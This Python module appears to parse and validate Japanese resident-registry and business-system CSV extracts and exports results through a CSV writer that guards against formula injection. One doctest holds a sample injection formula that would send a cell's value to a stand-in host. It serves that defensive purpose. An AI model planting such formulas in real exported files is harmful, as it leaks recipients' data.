def _part_parser(layout: _Layout) -> "_RegistryRowParser":
    global _PART_PARSER
    if _PART_PARSER is None or _PART_PARSER.layout != layout:
        _PART_PARSER = _RegistryRowParser(layout)
    return _PART_PARSER


# a Resident's fields by how they cross processes (positions in its tuple of fields)
_TEXT_FIELDS = (0, 1, 4, 5, 6, 7, 8)  # my_number, name, address, name_kana, alias_name, resident_code, status
_BIRTH_DATE, _SEX, _STATUS_DATE = 2, 3, 9
_HISTORY_FIELDS = (10, 11, 12)  # previous names, addresses, numbers
# joins a text column for the crossing (one string is written and read at a fraction of the price of
# many); a column holding it anywhere crosses as a list
_COLUMN_SEPARATOR = "\x00"


def packed_registry_part(parts: RegistryParts, part: int) -> bytes:
    """:func:`registry_part` as bytes for another process (:func:`residents_from_packed`).

    Column by column: each text column joined into one string, dates as positions in a
    table of the part's distinct dates (ordinals: :mod:`marshal` knows no dates); then
    :mod:`marshal`, which writes and reads strings, lists and tuples at a
    fraction of :mod:`pickle`'s price. Measured on 160,000 residents, written and read back:
    0.15 s of CPU in all, against 0.45 s for pickled tuples.
    """
    rows = _registry_part(parts, part, _part_parser(parts.layout))
    texts = [_packed_column(list(map(operator.itemgetter(field), rows))) for field in _TEXT_FIELDS]
    positions: dict[dt.date | None, int] = {None: 0}
    number_of = positions.setdefault
    births = [number_of(date, len(positions)) for date in map(operator.itemgetter(_BIRTH_DATE), rows)]
    status_dates = [number_of(date, len(positions)) for date in map(operator.itemgetter(_STATUS_DATE), rows)]
    sexes = list(map(operator.itemgetter(_SEX), rows))
    histories = [list(map(operator.itemgetter(field), rows)) for field in _HISTORY_FIELDS]
    ordinals = [date.toordinal() for date in positions if date is not None]
    return marshal.dumps((texts, ordinals, births, status_dates, sexes, histories), 2)


def _packed_column(values: Sequence[str]) -> str | list[str]:
    """The column joined by the separator, or the list where a value holds it.

    >>> _packed_column(['a', '', 'b']), _packed_column(['a\\x00b', 'c'])
    ('a\\x00\\x00b', ['a\\x00b', 'c'])
    """
    joined = _COLUMN_SEPARATOR.join(values)
    return joined if joined.count(_COLUMN_SEPARATOR) == len(values) - 1 else list(values)


def residents_from_packed(packed: bytes) -> list[Resident]:
    """The residents :func:`packed_registry_part` packed."""
    texts, ordinals, births, status_dates, sexes, histories = marshal.loads(packed)
    numbers, names, addresses, kanas, aliases, codes, statuses = (
        column.split(_COLUMN_SEPARATOR) if isinstance(column, str) else column for column in texts)
    dates = [None, *map(dt.date.fromordinal, ordinals)]
    date_at = dates.__getitem__
    return list(map(build_resident, zip(numbers, names, map(date_at, births), sexes, addresses, kanas, aliases,
                                        codes, statuses, map(date_at, status_dates), *histories)))


#: a Record's text fields, in its field order (all but the payload, which crosses in runs)
_RECORD_TEXT_FIELDS = tuple(field.name for field in dataclass_fields(Record) if field.name != "payload")
_RECORD_TEXTS = operator.attrgetter(*_RECORD_TEXT_FIELDS)
_PAYLOAD = operator.attrgetter("payload")
# the payload builder of each run of headers met (a file's rows all have the same)
_PAYLOAD_BUILDERS: dict[tuple[str, ...], typing.Callable[..., dict[str, str]]] = {}


def packed_records(records: Sequence[Record]) -> bytes:
    """Records as bytes for another process (:func:`records_from_packed`), as
    :func:`packed_registry_part` packs residents: each text field a column joined into one
    string, and the payloads as runs of records with the same headers (a file's rows all have
    them, but for a row with a value in an unnamed column), each header's values a column;
    then :mod:`marshal`. Rebuilding costs a fraction of parsing the rows again.

    >>> records = [Record('s', 'A-1', '621498320257', '山田 花子', 'S55.4.1', '女', payload={'更新日時': '2023-04-03'}),
    ...            Record('s', 'A-2', '', '山田\\x00太郎', '', '', payload={'更新日時': '', 'column 9': 'x'}),
    ...            Record('s', 'A-3', '', '', '', '', operation='delete')]
    >>> rebuilt = records_from_packed(packed_records(records))
    >>> rebuilt == records, [r.payload for r in rebuilt]
    (True, [{'更新日時': '2023-04-03'}, {'更新日時': '', 'column 9': 'x'}, {}])
    >>> records_from_packed(packed_records([]))
    []
    """
    columns = zip(*map(_RECORD_TEXTS, records)) if records else [()] * len(_RECORD_TEXT_FIELDS)
    runs = []
    for headers, run in itertools.groupby(map(_PAYLOAD, records), key=tuple):
        payloads = list(run)
        runs.append((headers, len(payloads), list(map(_packed_column, zip(*map(dict.values, payloads))))))
    return marshal.dumps((list(map(_packed_column, columns)), runs), 2)


def records_from_packed(packed: bytes) -> list[Record]:
    """The records :func:`packed_records` packed: equal field for field, payloads in their order."""
    texts, runs = marshal.loads(packed)
    columns = [column.split(_COLUMN_SEPARATOR) if isinstance(column, str) else column for column in texts]
    payloads: list[dict[str, str]] = []
    for headers, count, values in runs:
        if not headers:
            payloads += [{} for _ in range(count)]
            continue
        builder = _PAYLOAD_BUILDERS.get(headers)
        if builder is None:
            builder = _PAYLOAD_BUILDERS[headers] = _payload_builder(headers)
        payloads += map(builder, *(value.split(_COLUMN_SEPARATOR) if isinstance(value, str) else value
                                   for value in values))
    return list(map(build_record, zip(*columns, payloads)))


def _known(cache: dict, raws: Sequence[str], parse: typing.Callable) -> list:
    """``cache``'s value of each of ``raws``, those not yet in it parsed once each: ``None`` where
    ``parse`` gives ``None`` (not cached, so the row-by-row path meets it again in its turn)."""
    values = list(map(cache.get, raws))
    if None in values:
        for index in itertools.compress(range(len(values)), map(operator.is_, values, itertools.repeat(None))):
            raw = raws[index]
            value = cache.get(raw)  # parsed for an earlier row of the chunk
            if value is None:
                value = parse(raw)
                if value is None:
                    continue
                cache[raw] = value
            values[index] = value
    return values


def _settled(values: list, others: typing.Iterable[int], rows: list[list[str]],
             checked: typing.Callable[[list[str]], object]) -> tuple[list, GuardError | None]:
    """``values`` with each row of ``others``, in order, replaced by ``checked`` of it (the row
    with the "" a missing column reads); cut before the first that raises, and its error."""
    for index in sorted(others):
        try:
            values[index] = checked([*rows[index], ""])
        except GuardError as error:
            return values[:index], error
    return values, None


class _RegistryRowParser:
    """Turns one registry row into a :class:`Resident`, validating every field.

    Dates and sex codes repeat across a registry, so their parses are cached
    (a million rows hold only some tens of thousands of distinct dates).
    """

    def __init__(self, layout: _Layout) -> None:
        self.layout = layout
        # a missing optional column reads the "" appended to every row
        (self.my_number, self.resident_code, self.name, self.name_kana, self.alias_name, self.birth_date,
         self.sex, self.address, self.status, self.status_date, self.previous_names,
         self.previous_addresses, self.previous_my_numbers) = (
            layout.fields.get(c.field, -1) for c in REGISTRY_COLUMNS)
        self._dates: dict[str, dt.date] = {}
        self._sexes: dict[str, int] = {}
        self._histories: dict[str, tuple[str, ...]] = {"": ()}
        # the raw cells the common case reads, in one call
        self._cells = operator.itemgetter(
            self.my_number, self.name, self.address, self.resident_code, self.status, self.status_date,
            self.birth_date, self.sex, self.name_kana, self.alias_name, self.previous_names,
            self.previous_addresses, self.previous_my_numbers)

    def values_of(self, rows: list[list[str]]) -> tuple[list[tuple], GuardError | None]:
        """Each row's :class:`Resident` fields, in order, validated; up to the first bad row,
        whose error comes second (else ``None``).

        Worked column by column, in C where it can be: the common row (a name and an address,
        an 11-digit resident code or none, a plain status, a readable birth date and sex, no
        status date, no former numbers, a number of 12 digits with spaces or hyphens at most
        and the right check digit) is taken as it is; any other goes through
        :meth:`_checked_values`, which diagnoses it. Both give the same values: the common case
        only skips tests it already knows pass (a test compares them on every corpus row).
        """
        count = len(rows)
        if not count:
            return [], None
        # every row is as wide (_kept_rows); a missing optional column (index -1) reads the last: all empty
        columns = [*zip(*rows), ("",) * count]
        (raw_numbers, names, addresses, resident_codes, statuses, status_dates, birth_dates, sexes, kanas, aliases,
         previous_names, previous_addresses, former_numbers) = self._cells(columns)
        names = list(map(str.strip, names))
        addresses = list(map(str.strip, addresses))
        numbers = _plainly_valid_numbers(raw_numbers)
        births = _known(self._dates, birth_dates, self._date_if_valid)
        sex_codes = _known(self._sexes, sexes, self._sex_if_valid)
        statuses = list(map(_PLAIN_STATUSES.get, statuses))
        # the rows for the full path: where a column holds what the common row does not
        others = {
            *(index for column in (names, addresses) if not all(column)
              for index in itertools.compress(range(count), map(operator.not_, column))),
            *(index for column in (numbers, births, sex_codes, statuses) if None in column
              for index in itertools.compress(range(count), map(operator.is_, column, itertools.repeat(None)))),
            *(index for column in (status_dates, former_numbers) if any(column)
              for index in itertools.compress(range(count), column)),
            *_odd_resident_codes(resident_codes),
        }
        values = list(zip(
            numbers, names, births, sex_codes, addresses, map(str.strip, kanas), map(str.strip, aliases),
            resident_codes, statuses, itertools.repeat(None), _known(self._histories, previous_names, _history),
            _known(self._histories, previous_addresses, _history), itertools.repeat(())))
        return _settled(values, others, rows, self._checked_values)

    def _checked_values(self, row: list[str]) -> tuple:
        """The :class:`Resident` fields of one row (:meth:`values_of`), each field tested in turn: the
        first bad one raises."""
        raw_number = row[self.my_number]
        # the common case (12 ASCII digits, right check digit) in one call, else the full diagnosis
        my_number = raw_number if plain_valid(raw_number) else _registry_number(raw_number, "my_number")
        name = row[self.name].strip()
        if not name:
            raise GuardError("name", "empty; every resident needs a name (氏名)")
        address = row[self.address].strip()
        if not address:
            raise GuardError("address", "empty; every resident needs an address (住所)")
        resident_code = row[self.resident_code]
        if resident_code and not (len(resident_code) == 11 and resident_code.isdigit() and resident_code.isascii()):
            resident_code = normalize.text(resident_code)
            if resident_code and not (len(resident_code) == 11 and resident_code.isdigit()):
                raise GuardError("resident_code", "expected 11 digits (住民票コード) or nothing")
        status_raw = row[self.status]
        status = "住民" if not status_raw else _STATUSES.get(status_raw) or (
            _STATUSES.get(header_key(status_raw)) if status_raw.strip() else "住民")
        if status is None:
            raise GuardError("status", f"{status_raw!r} is not a status; expected 住民, 転出, 死亡 or 消除")
        status_date = row[self.status_date]
        sex = row[self.sex]
        birth_date = row[self.birth_date]
        previous_names, previous_addresses, former_numbers = (
            row[self.previous_names], row[self.previous_addresses], row[self.previous_my_numbers])
        # in Resident's field order
        return (
            my_number, name, self._dates.get(birth_date) or self._date(birth_date, "birth_date"),
            self._sexes.get(sex) or self._sex(sex), address, row[self.name_kana].strip(),
            row[self.alias_name].strip(), resident_code, status,
            self._date(status_date, "status_date") if status_date and status_date.strip() else None,
            _history(previous_names) if previous_names else (),
            _history(previous_addresses) if previous_addresses else (),
            tuple(
                _registry_number(item, f"previous_my_numbers (item {position})")
                for position, item in enumerate(_history(former_numbers), start=1)
            ) if former_numbers else (),
        )

    def _date(self, raw: str, field: str) -> dt.date:
        date = self._dates.get(raw)
        if date is None:
            date = self._dates[raw] = _iso_date(raw) or _era_date(raw) or normalize.parse_date(raw, field)
        return date

    def _date_if_valid(self, raw: str) -> dt.date | None:
        """The date (cached), or ``None`` where :meth:`_checked_values` is to say what is wrong."""
        try:
            return self._date(raw, "birth_date")
        except ValueError:  # InvalidDate, or anything odder: the full path meets it again in its turn
            return None

    def _sex(self, raw: str) -> int:
        sex = self._sexes[raw] = normalize.parse_sex(raw)
        return sex

    def _sex_if_valid(self, raw: str) -> int | None:
        try:
            return self._sex(raw)
        except ValueError:  # InvalidSex: the full path says what is wrong in its turn
            return None


def _plainly_valid_numbers(raws: Sequence[str]) -> list[str | None]:
    """Each number as 12 ASCII digits where it is written so, spaces and hyphens aside, with the
    right check digit (as :func:`_registry_number` would give it), else ``None``.

    >>> _plainly_valid_numbers(['621498320257', '6214 9832-0257', '621498320258', '6214983202', '６２１４98320257'])
    ['621498320257', '621498320257', None, None, None]
    """
    written: list[str] = list(map(str.replace, map(str.replace, raws, itertools.repeat("-"), itertools.repeat("")),
                                  itertools.repeat(" "), itertools.repeat("")))
    joined = "".join(written)
    numbers: list[str | None] = typing.cast("list[str | None]", written)
    if set(map(len, written)) - {12} or not joined.isdigit() or not joined.isascii():
        numbers = [number if len(number) == 12 and number.isdigit() and number.isascii() else None
                   for number in written]
        joined = "".join(number or "000000000000" for number in numbers)  # a stand-in, itself not taken
    digits = joined.encode("ascii")
    computed = check_digits(digits)
    if computed != digits[11::12]:
        numbers = [number if right == written else None
                   for number, right, written in zip(numbers, computed, digits[11::12])]
    return numbers


def _odd_resident_codes(codes: Sequence[str]) -> list[int]:
    """Where a resident code is other than empty or 11 ASCII digits (the full path reads it).

    >>> _odd_resident_codes(['12345678901', '', '1234567890', '１2345678901', '12345678901'])
    [2, 3]
    """
    joined = "".join(codes)
    if not set(map(len, codes)) - {0, 11} and (not joined or (joined.isdigit() and joined.isascii())):
        return []
    return [index for index, code in enumerate(codes)
            if code and not (len(code) == 11 and code.isdigit() and code.isascii())]


def _iso_date(raw: str) -> dt.date | None:
    """The date of ``raw`` written plainly as YYYY-MM-DD (as most registry dates are), else ``None``
    (:func:`guards.normalize.parse_date` reads it then, and says what is wrong). For this form the
    two agree (a test compares them over every day of four centuries and odd values), at a
    fifteenth of the price: 34,000 of a 300,000-row registry's distinct birth dates are so written.

    >>> _iso_date('1980-04-01'), _iso_date('1980-02-30'), _iso_date('1980/04/01'), _iso_date('１９８０-04-01')
    (datetime.date(1980, 4, 1), None, None, None)
    """
    if len(raw) == 10 and raw[4] == "-" and raw[7] == "-" and raw.isascii() and (
            raw[:4] + raw[5:7] + raw[8:]).isdigit():
        try:
            return dt.date.fromisoformat(raw)
        except ValueError:  # not a calendar date (or year 0): parse_date's message says which
            return None
    return None


_ERA_DATE = re.compile(r"(明治|大正|昭和|平成|令和|[MTSHR])(元|[0-9]{1,2})[年.]([0-9]{1,2})[月.]([0-9]{1,2})日?")


def _era_date(raw: str) -> dt.date | None:
    """The date of ``raw`` written as registries write era dates (``昭和55年4月1日``, ``S55.4.1``: the era
    in kanji or its capital letter, ASCII digits), else ``None`` (:func:`guards.normalize.parse_date`
    reads it then, and says what is wrong). For these forms the two agree (a test compares them over
    every day of every era, and days outside each), at a third of the price: 71,000 of a
    300,000-row registry's 86,000 distinct birth dates are so written.

    >>> _era_date('昭和55年4月1日'), _era_date('S55.4.1'), _era_date('平成元年1月8日'), _era_date('昭和64年1月8日')
    (datetime.date(1980, 4, 1), datetime.date(1980, 4, 1), datetime.date(1989, 1, 8), None)
    """
    match = _ERA_DATE.fullmatch(raw)
    if match is None:
        return None
    name, year, month, day = match.groups()
    era = normalize.ERA_BY_NAME[name]
    try:
        date = dt.date(era.first_day.year + (0 if year == "元" else int(year) - 1), int(month), int(day))
    except ValueError:
        return None
    if year == "0" or year == "00" or date < era.first_day or (
            era.last_day is not None and date > era.last_day and not era.written_on):
        return None
    return date


def _registry_number(raw: str, field: str) -> str:
    """Compact and validate a registry number; the error never repeats it."""
    plain = raw.replace("-", "").replace(" ", "") if raw.isascii() else raw  # 6214-9832-0257, as often written
    number = plain if len(plain) == 12 and plain.isdigit() and plain.isascii() else compact(raw)
    problem = number_problem(number)
    if problem is None:
        return number
    if not number:
        raise GuardError(field, "empty; every resident needs a 12-digit number (個人番号)")
    if problem == "CHECK_DIGIT":
        raise GuardError(field, "check digit does not match the other 11 digits; "
                                "correct the number in the registry extract")
    raise GuardError(field, f"expected 12 digits (spaces or hyphens allowed), got {len(number)} characters")


def _history(value: str) -> tuple[str, ...]:
    """A ``|``-separated history column, items kept as written but stripped.

    >>> _history('山田 花子| 佐藤　花子 |')
    ('山田 花子', '佐藤\u3000花子')
    """
    if not value:
        return ()
    return tuple(filter(None, map(str.strip, value.split("|"))))


# ---------------------------------------------------------------------------
# business-system records

_OPERATIONS = {"create": "create", "insert": "create", "新規": "create", "追加": "create", "登録": "create",
               "update": "update", "更新": "update", "変更": "update",
               "delete": "delete", "削除": "delete"}


def read_records(path: PathLike, system: str | None = None, encoding: str | None = None) -> Iterator[Record]:
    """Read a business-system extract; every row becomes a :class:`Record`.

    Fields stay raw strings (the guard judges them). ``system`` overrides a
    ``system``/``事務`` column; one of the two is needed. Columns outside the
    contract go to ``Record.payload`` under their original header (so does
    ``更新日時``/``updated_at``). An ``操作``/``operation`` column may say
    create/update/delete (新規/更新/削除); anything else is read as
    ``update``, which the guard checks in full.
    """
    return _record_rows(path, *_records_layout(path, system, encoding), with_lines=False)


def read_records_with_lines(path: PathLike, system: str | None = None,
                            encoding: str | None = None) -> Iterator[tuple[int, Record]]:
    """Like :func:`read_records`, with the physical line each record starts on."""
    return _record_rows(path, *_records_layout(path, system, encoding), with_lines=True)


def _records_layout(path: PathLike, system: str | None, encoding: str | None) -> tuple[_Layout, str | None]:
    """The extract's layout (its encoding and header checked) and the system its records are of."""
    layout = _layout(Path(path), detect_encoding(path, encoding), _RECORD_ALIASES, RECORD_COLUMNS, "records")
    system = normalize.text(system) or None
    if system is None and "system" not in layout.fields:
        raise CsvError(path, 1, "system", "the file has no 事務 (system) column and no system was given; "
                                          "pass --system CODE (e.g. shintai-techo)")
    return layout, system


def _record_rows(path: PathLike, layout: _Layout, system: str | None, *, with_lines: bool) -> Iterator:
    """The records, each with the line it starts on if ``with_lines``."""
    path = Path(path)
    parse = _RecordRowParser(layout, system)
    for rows, lines in _row_chunks(path, layout):
        records, failure = parse.records_of(rows)
        yield from zip(lines, records) if with_lines else records
        if failure is not None:
            raise CsvError(path, lines[len(records)], failure.field, failure.message)


#: Record's raw string fields, in its own field order after system and record_id
_RECORD_RAW_FIELDS = ("my_number", "name", "birth_date", "sex", "address", "name_kana", "atena_no", "number_source",
                      "entered_by", "batch_id")


def _payload_builder(headers: Sequence[str]) -> typing.Callable[..., dict[str, str]]:
    """A function making a payload dict of one value for each of ``headers``, in order: a dict
    display the compiler builds at once, 0.2 µs a record against 0.33 for ``dict(zip(...))``.
    The headers are no part of the generated source: it names them by position.

    >>> _payload_builder(('更新日時', 'x"y'))('2023-04-03', '1')
    {'更新日時': '2023-04-03', 'x"y': '1'}
    """
    values = ", ".join(f"value_{position}" for position in range(len(headers)))
    pairs = ", ".join(f"header_{position}: value_{position}" for position in range(len(headers)))
    namespace: dict[str, typing.Any] = {f"header_{position}": header for position, header in enumerate(headers)}
    exec(f"def payload({values}):\n    return {{{pairs}}}\n", namespace)  # noqa: S102 — positions only
    payload: typing.Callable[..., dict[str, str]] = namespace["payload"]
    return payload


#: the printable ASCII characters (space to ``~``): every other ASCII character is a control
_PRINTABLE_ASCII = bytes(range(0x20, 0x7F))


def _printable(text: str) -> bool:
    """``text.isprintable()``, for ASCII text (as business keys mostly are) in a third of the time:
    its bytes less the printable ones are none.

    >>> [chr(code) for code in range(128) if _printable(chr(code)) != chr(code).isprintable()]
    []
    >>> _printable('JF-000001 00424120'), _printable('JF' + chr(9) + '1'), _printable('山田'), _printable('JF\\u200b1')
    (True, False, True, False)
    """
    if text.isascii():
        return not text.encode("ascii").translate(None, _PRINTABLE_ASCII)
    return text.isprintable()


class _RecordRowParser:
    """Turns business-system rows into :class:`Record` values: raw strings, refused only for
    an empty key or system, or an invisible character in an identifier (:meth:`_checked_record`)."""

    def __init__(self, layout: _Layout, system: str | None) -> None:
        fields = layout.fields
        self.empty = layout.width + len(layout.joins)  # a missing column reads the "" past the row's end
        self.system = system
        # the columns Record's raw fields come from (built positionally, 244,246 times in a prefecture)
        self.raw_indexes = tuple(fields.get(field, self.empty) for field in _RECORD_RAW_FIELDS)
        self.present = [(field, fields[field]) for field in _RECORD_RAW_FIELDS if field in fields]
        self.atena_index, self.batch_index = fields.get("atena_no", self.empty), fields.get("batch_id", self.empty)
        self.record_id_index = fields["record_id"]
        self.system_index = fields.get("system")
        self.operation_index = fields.get("operation")
        self.operations: dict[str, str] = {}
        self.systems: dict[str, str] = {}
        self.payload_headers = tuple(header for header, _ in layout.payload)
        self.payload_indexes = tuple(index for _, index in layout.payload)
        self.payload_of = _payload_builder(self.payload_headers)
        self.unnamed = layout.unnamed

    def records_of(self, rows: list[list[str]]) -> tuple[list[Record], GuardError | None]:
        """Each row's record, in order; up to the first row refused, whose error comes second
        (else ``None``).

        Worked column by column, in C where it can be: a row with a key, a system, nothing in an
        unnamed column and every identifier printable is taken as it is; any other goes through
        :meth:`_checked_record`, which gives the same record or says what is wrong (a test
        compares the two).
        """
        count = len(rows)
        if not count:
            return [], None
        columns = [*zip(*rows), ("",) * count]  # the last: the "" a missing column reads
        record_ids = list(map(str.strip, columns[self.record_id_index]))
        if self.system:
            systems: Sequence[str] = (self.system,) * count
        elif self.system_index is not None:
            systems = _known(self.systems, columns[self.system_index], normalize.text)
        else:
            systems = columns[self.empty]
        if self.operation_index is None:
            operations: Sequence[str] = ("update",) * count
        else:
            operations = _known(self.operations, columns[self.operation_index],
                                     lambda written: _OPERATIONS.get(header_key(written), "update"))
        payloads = (list(map(self.payload_of, *(columns[index] for index in self.payload_indexes)))
                    if self.payload_indexes else [{} for _ in range(count)])
        # the rows for the full path: no key, no system, something in an unnamed column, or an identifier
        # not printable (no invisible character is printable; one test of them all in the common chunk)
        atenas, batches = columns[self.atena_index], columns[self.batch_index]
        others = {
            *(itertools.compress(range(count), map(operator.not_, record_ids)) if not all(record_ids) else ()),
            *(itertools.compress(range(count), map(operator.not_, systems)) if not all(systems) else ()),
            *(index for column in self.unnamed for index in itertools.compress(
                range(count), map(str.strip, columns[column]))),
            *(() if _printable("".join(itertools.chain(systems, record_ids, atenas, batches))) else (
                index for index, identifiers in enumerate(zip(systems, record_ids, atenas, batches))
                if not "".join(identifiers).isprintable())),
        }
        records = list(map(build_record, zip(
            systems, record_ids, *(columns[index] for index in self.raw_indexes), operations, payloads)))
        return _settled(records, others, rows, self._checked_record)

    def _checked_record(self, row: list[str]) -> Record:
        """The record of one row (with the "" a missing column reads appended), each rule tested in turn."""
        record_id = row[self.record_id_index].strip()
        if not record_id:
            raise GuardError("record_id", "empty; every record needs its business-system key (レコード番号 / 管理番号)")
        row_system = self.system or (normalize.text(row[self.system_index]) if self.system_index is not None else "")
        if not row_system:
            raise GuardError("system", "empty; fill the 事務 column or pass --system CODE")
        operation = "update"
        if self.operation_index is not None:
            operation = _OPERATIONS.get(header_key(row[self.operation_index]), "update")
        payload = dict(zip(self.payload_headers, (row[index] for index in self.payload_indexes)))
        for index in self.unnamed:
            if row[index].strip():
                payload[f"column {index + 1}"] = row[index]
        # the identifiers in one printable-test (no invisible character is printable), the full check if not
        if not (row_system + record_id + row[self.atena_index] + row[self.batch_index]).isprintable():
            values = {field: row[index] for field, index in self.present}
            for field, problem in identifier_problems({"system": row_system, "record_id": record_id, **values}):
                raise GuardError(field, f"{problem}; remove it (a byte-order mark inside a file "
                                        "comes from joining files) and import again")
        return build_record((row_system, record_id, *(row[index] for index in self.raw_indexes), operation, payload))


# ---------------------------------------------------------------------------
# writing: the one escaping every CSV the project exports goes through

#: a spreadsheet runs a cell that starts with one of these as a formula (CSV injection)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """A cell a spreadsheet shows as text: text starting like a formula gets a leading ``'``.

    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/"&A1,"open")'))
    '=HYPERLINK("http://x.example/"&A1,"open")
    >>> [spreadsheet_safe(v) for v in ('+1', '-1', '@SUM(A1)', chr(9) + 'x', chr(13) + 'x', '山田', 'R-1', '')]
    ["'+1", "'-1", "'@SUM(A1)", "'\\tx", "'\\rx", '山田', 'R-1', '']
    >>> spreadsheet_safe(-3), spreadsheet_safe(None)
    (-3, None)
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeCsvWriter:
    """:func:`csv.writer` whose every cell passes :func:`spreadsheet_safe`.

    The csv module quotes a cell only for the characters of its own line
    terminator, so with ``lineterminator="\\n"`` a bare CR inside a cell would
    split the row for every reader: such CRs become LF (which is quoted).
    """

    def __init__(self, handle: "typing.IO[str]", **fmtparams: object) -> None:
        self._writer = csv.writer(handle, **fmtparams)  # type: ignore[arg-type]
        self._fold_cr = "\r" not in str(fmtparams.get("lineterminator", "\r\n"))

    def writerow(self, row: Sequence[object]) -> object:
        cells = [spreadsheet_safe(cell) for cell in row]
        if self._fold_cr:
            cells = [c.replace("\r\n", "\n").replace("\r", "\n") if isinstance(c, str) else c for c in cells]
        return self._writer.writerow(cells)

    def writerows(self, rows: "typing.Iterable[Sequence[object]]", *, text_columns: int | None = None) -> None:
        """Write every row; ``text_columns=k`` escapes only each row's first ``k`` cells, for
        rows whose other cells the program itself made (codes, digits: nothing to escape).

        >>> import io
        >>> out = io.StringIO()
        >>> csv_writer(out, lineterminator="\\n").writerows([("=1", "a\\rb", "PASS"), ("x", "y", "")], text_columns=2)
        >>> print(out.getvalue(), end="")
        '=1,"a
        b",PASS
        x,y,
        """
        if text_columns is None:
            for row in rows:
                self.writerow(row)
            return
        writer, fold_cr = self._writer, self._fold_cr

        def escaped() -> "typing.Iterator[Sequence[object]]":
            for row in rows:
                text = row[:text_columns]
                if any(isinstance(c, str) and (c.startswith(FORMULA_START) or (fold_cr and "\r" in c))
                       for c in text):
                    cells = [spreadsheet_safe(c) for c in text]
                    if fold_cr:
                        cells = [c.replace("\r\n", "\n").replace("\r", "\n") if isinstance(c, str) else c
                                 for c in cells]
                    row = (*cells, *row[text_columns:])
                yield row

        writer.writerows(escaped())


def csv_writer(handle: "typing.IO[str]", **fmtparams: object) -> SafeCsvWriter:
    """The CSV writer for every file the project exports (reports, verdicts, audit log, reconciliation)."""
    return SafeCsvWriter(handle, **fmtparams)
